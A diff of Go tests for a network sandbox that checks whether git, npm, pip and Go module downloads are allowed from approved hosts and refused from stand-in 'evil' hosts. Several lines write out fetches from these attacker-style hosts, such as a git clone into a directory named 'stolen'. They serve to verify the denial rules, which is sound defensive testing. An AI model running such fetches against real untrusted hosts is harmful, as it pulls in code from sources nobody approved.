@@ -49,31 +49,31 @@ func TestGit(t *testing.T) {
 	w.HTTPS("git.example.com", backend)
 	evil := w.HTTPS("evil-git.example.com", backend)
 	p := newPen(t, w)
-	p.allow = []string{"{host: git.example.com}"}
-	p.env = map[string]string{"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@example.com", "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@example.com"}
+	p.Allow = []string{"{host: git.example.com}"}
+	p.Env = map[string]string{"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@example.com", "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@example.com"}
 
-	r := p.sh(`set -e
+	r := p.Sh(`set -e
 git clone -q https://git.example.com/repo.git && cat repo/file && cd repo
 echo more > more && git add more && git commit -q -m more && git push -q origin main && echo pushed`)
-	wantOutput(t, r, 0, "seed-content", "pushed")
-	p.wantAllowed("git.example.com")
+	world.WantOutput(t, r, 0, "seed-content", "pushed")
+	p.WantAllowed("git.example.com")
 	head, err := os.ReadFile(filepath.Join(dir, "repo.git", "refs", "heads", "main"))
 	if err != nil {
 		t.Fatal(err)
 	}
-	r = p.sh("git -C repo rev-parse HEAD")
+	r = p.Sh("git -C repo rev-parse HEAD")
 	if strings.TrimSpace(r.Stdout) != strings.TrimSpace(string(head)) {
 		t.Errorf("pushed %q, server has %q", r.Stdout, head)
 	}
-	if bare() {
+	if world.Bare() {
 		return
 	}
-	wantFailure(t, p.sh("git clone -q https://evil-git.example.com/repo.git stolen"))
-	p.wantDenied(evil)
+	world.WantFailure(t, p.Sh("git clone -q https://evil-git.example.com/repo.git stolen"))
+	p.WantDenied(evil)
 
 	// Read-only: a clone works, a push is refused by the rule's paths.
-	p.allow = []string{"{host: git.example.com, paths: [/repo.git/info/refs, /repo.git/git-upload-pack]}"}
-	r = p.sh(`git clone -q https://git.example.com/repo.git again && cd again && echo x > x && git add x && git commit -q -m x && echo committed && git push -q origin main`)
+	p.Allow = []string{"{host: git.example.com, paths: [/repo.git/info/refs, /repo.git/git-upload-pack]}"}
+	r = p.Sh(`git clone -q https://git.example.com/repo.git again && cd again && echo x > x && git add x && git commit -q -m x && echo committed && git push -q origin main`)
 	if r.Code == 0 || !strings.Contains(r.Stdout, "committed") {
 		t.Errorf("read-only rule: %s", r)
 	}
@@ -165,19 +165,19 @@ func TestNpmInstall(t *testing.T) {
 	w.HTTPS("npm.example.com", registry)
 	evil := w.HTTPS("evil-npm.example.com", registry)
 	p := newPen(t, w)
-	p.allow = []string{"{host: npm.example.com}"}
-	p.home.Write(t, "project/package.json", `{"name":"demo","version":"1.0.0","private":true}`)
-	p.home.Write(t, "project/.npmrc", "registry=https://npm.example.com/\naudit=false\nfund=false\nupdate-notifier=false\ncache=./.npm-cache\nfetch-retries=0\n")
-	r := p.sh(`npm install left-pen && node -p "require('left-pen')"`)
-	wantOutput(t, r, 0, "from-the-registry")
-	p.wantAllowed("npm.example.com")
+	p.Allow = []string{"{host: npm.example.com}"}
+	p.Home.Write(t, "project/package.json", `{"name":"demo","version":"1.0.0","private":true}`)
+	p.Home.Write(t, "project/.npmrc", "registry=https://npm.example.com/\naudit=false\nfund=false\nupdate-notifier=false\ncache=./.npm-cache\nfetch-retries=0\n")
+	r := p.Sh(`npm install left-pen && node -p "require('left-pen')"`)
+	world.WantOutput(t, r, 0, "from-the-registry")
+	p.WantAllowed("npm.example.com")
 	// A dependency whose tarball is on a host that nobody allowed.
-	wantFailure(t, p.sh("npm install needs-bad"))
-	p.wantDenied(evil)
+	world.WantFailure(t, p.Sh("npm install needs-bad"))
+	p.WantDenied(evil)
 	// What npm reads of one package, by a rule that knows registries.
-	p.allow = []string{"{host: npm.example.com, registry: {kind: npm, packages: [left-pen]}}"}
-	r = p.sh(`rm -rf node_modules package-lock.json .npm-cache && npm install left-pen && node -p "require('left-pen')" && ! npm view needs-bad && ! npm whoami && echo only-this`)
-	wantOutput(t, r, 0, "from-the-registry", "only-this")
+	p.Allow = []string{"{host: npm.example.com, registry: {kind: npm, packages: [left-pen]}}"}
+	r = p.Sh(`rm -rf node_modules package-lock.json .npm-cache && npm install left-pen && node -p "require('left-pen')" && ! npm view needs-bad && ! npm whoami && echo only-this`)
+	world.WantOutput(t, r, 0, "from-the-registry", "only-this")
 }
 
 // pypiIndex serves the package penpkg, as PEP 503 has it.
@@ -213,16 +213,16 @@ func TestPipDownload(t *testing.T) {
 	w.HTTPS("pypi.example.com", index)
 	evil := w.HTTPS("evil-pypi.example.com", index)
 	p := newPen(t, w)
-	p.allow = []string{"{host: pypi.example.com}"}
+	p.Allow = []string{"{host: pypi.example.com}"}
 	pip := python + " -m pip --disable-pip-version-check --no-cache-dir download --no-deps -d wheels --retries 0 "
-	r := p.sh(pip + "--index-url https://pypi.example.com/simple/ penpkg && ls wheels")
-	wantOutput(t, r, 0, "penpkg-1.0.0-py3-none-any.whl")
-	p.wantAllowed("pypi.example.com")
-	wantFailure(t, p.sh(pip+"--index-url https://evil-pypi.example.com/simple/ penpkg"))
-	p.wantDenied(evil)
+	r := p.Sh(pip + "--index-url https://pypi.example.com/simple/ penpkg && ls wheels")
+	world.WantOutput(t, r, 0, "penpkg-1.0.0-py3-none-any.whl")
+	p.WantAllowed("pypi.example.com")
+	world.WantFailure(t, p.Sh(pip+"--index-url https://evil-pypi.example.com/simple/ penpkg"))
+	p.WantDenied(evil)
 	for name, ok := range map[string]bool{"penpkg": true, "Pen.Pkg": false} {
-		p.allow = []string{"{host: pypi.example.com, registry: {kind: pypi, packages: [" + name + "]}}"}
-		if r := p.sh("rm -rf wheels; " + pip + "--index-url https://pypi.example.com/simple/ penpkg"); !bare() && (r.Code == 0) != ok {
+		p.Allow = []string{"{host: pypi.example.com, registry: {kind: pypi, packages: [" + name + "]}}"}
+		if r := p.Sh("rm -rf wheels; " + pip + "--index-url https://pypi.example.com/simple/ penpkg"); !world.Bare() && (r.Code == 0) != ok {
 			t.Errorf("a rule about %s: %s", name, r)
 		}
 	}
@@ -256,23 +256,23 @@ func TestGoModDownload(t *testing.T) {
 	w.HTTPS("goproxy.example.com", proxy)
 	evil := w.HTTPS("evil-goproxy.example.com", proxy)
 	p := newPen(t, w)
-	p.read = []string{filepath.Dir(filepath.Dir(goBin))} // it may be one that the go command fetched
-	p.allow = []string{"{host: goproxy.example.com}"}
-	p.home.Write(t, "project/go.mod", "module demo\n\ngo 1.20\n\nrequire example.com/lib v1.0.0\n")
-	p.env = map[string]string{
+	p.Read = []string{filepath.Dir(filepath.Dir(goBin))} // it may be one that the go command fetched
+	p.Allow = []string{"{host: goproxy.example.com}"}
+	p.Home.Write(t, "project/go.mod", "module demo\n\ngo 1.20\n\nrequire example.com/lib v1.0.0\n")
+	p.Env = map[string]string{
 		"GOPROXY": "https://goproxy.example.com", "GOSUMDB": "off", "GOFLAGS": "-modcacherw", "GOTOOLCHAIN": "local",
-		"GOMODCACHE": filepath.Join(p.home.Project, "mod"), "GOCACHE": filepath.Join(p.home.Project, "cache"), "GOTELEMETRY": "off",
+		"GOMODCACHE": filepath.Join(p.Home.Project, "mod"), "GOCACHE": filepath.Join(p.Home.Project, "cache"), "GOTELEMETRY": "off",
 	}
-	r := p.sh(goBin + " mod download -json example.com/lib@v1.0.0 && ls mod/example.com")
-	wantOutput(t, r, 0, `"Version": "v1.0.0"`, "lib@v1.0.0")
-	p.wantAllowed("goproxy.example.com")
-	p.env["GOPROXY"] = "https://evil-goproxy.example.com"
-	wantFailure(t, p.sh("rm -rf mod; "+goBin+" mod download example.com/lib@v1.0.0"))
-	p.wantDenied(evil)
-	p.env["GOPROXY"] = "https://goproxy.example.com"
+	r := p.Sh(goBin + " mod download -json example.com/lib@v1.0.0 && ls mod/example.com")
+	world.WantOutput(t, r, 0, `"Version": "v1.0.0"`, "lib@v1.0.0")
+	p.WantAllowed("goproxy.example.com")
+	p.Env["GOPROXY"] = "https://evil-goproxy.example.com"
+	world.WantFailure(t, p.Sh("rm -rf mod; "+goBin+" mod download example.com/lib@v1.0.0"))
+	p.WantDenied(evil)
+	p.Env["GOPROXY"] = "https://goproxy.example.com"
 	for name, ok := range map[string]bool{"example.com/lib": true, "example.com/library": false} {
-		p.allow = []string{"{host: goproxy.example.com, registry: {kind: go, packages: [" + name + "]}}"}
-		if r := p.sh("rm -rf mod; " + goBin + " mod download example.com/lib@v1.0.0"); !bare() && (r.Code == 0) != ok {
+		p.Allow = []string{"{host: goproxy.example.com, registry: {kind: go, packages: [" + name + "]}}"}
+		if r := p.Sh("rm -rf mod; " + goBin + " mod download example.com/lib@v1.0.0"); !world.Bare() && (r.Code == 0) != ok {
 			t.Errorf("a rule about %s: %s", name, r)
 		}
 	}
